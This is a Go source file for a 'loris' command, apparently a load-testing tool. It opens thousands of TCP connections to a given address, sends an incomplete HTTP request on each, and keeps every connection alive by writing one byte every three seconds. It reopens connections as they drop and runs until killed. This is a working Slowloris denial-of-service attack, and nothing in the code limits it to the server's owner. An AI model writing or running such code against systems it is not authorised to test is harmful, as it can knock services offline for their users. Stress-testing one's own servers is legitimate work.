package main

import (
	"context"
	"fmt"
	"io"
	"sync"
	"sync/atomic"
	"time"
)

// lorisCommand sends heads byte by byte over many connections, and again when one is
// ended, in a process of its own.
type lorisCommand struct {
	Addr  string `arg:""`
	Conns int    `default:"10000"`
}

// lorisPause is the time between two bytes on one connection.
const lorisPause = 3 * time.Second

// Run goes on until it is killed.
func (l *lorisCommand) Run(ctx context.Context) error {
	raiseLimit()
	var running sync.WaitGroup
	var opened atomic.Int64
	for i := range l.Conns {
		time.Sleep(time.Second / 5000)
		running.Go(func() {
			for ctx.Err() == nil {
				l.one(ctx, i, &opened)
			}
		})
	}
	fmt.Println(opened.Load())
	running.Wait()
	return nil
}

func (l *lorisCommand) one(ctx context.Context, i int, opened *atomic.Int64) {
	pause := time.NewTicker(lorisPause)
	defer pause.Stop()
	c, err := dialer(i).DialContext(ctx, "tcp", l.Addr)
	if err == nil {
		defer c.Close()
		opened.Add(1)
		_, err = io.WriteString(c, "GET / HTTP/1.1\r\nHost: web.loadtest\r\nX-Slow: ")
	}
	for err == nil {
		select {
		case <-ctx.Done():
			return
		case <-pause.C:
			_, err = io.WriteString(c, "a")
		}
	}
	select { // refused: not at once again
	case <-ctx.Done():
	case <-pause.C:
	}
}
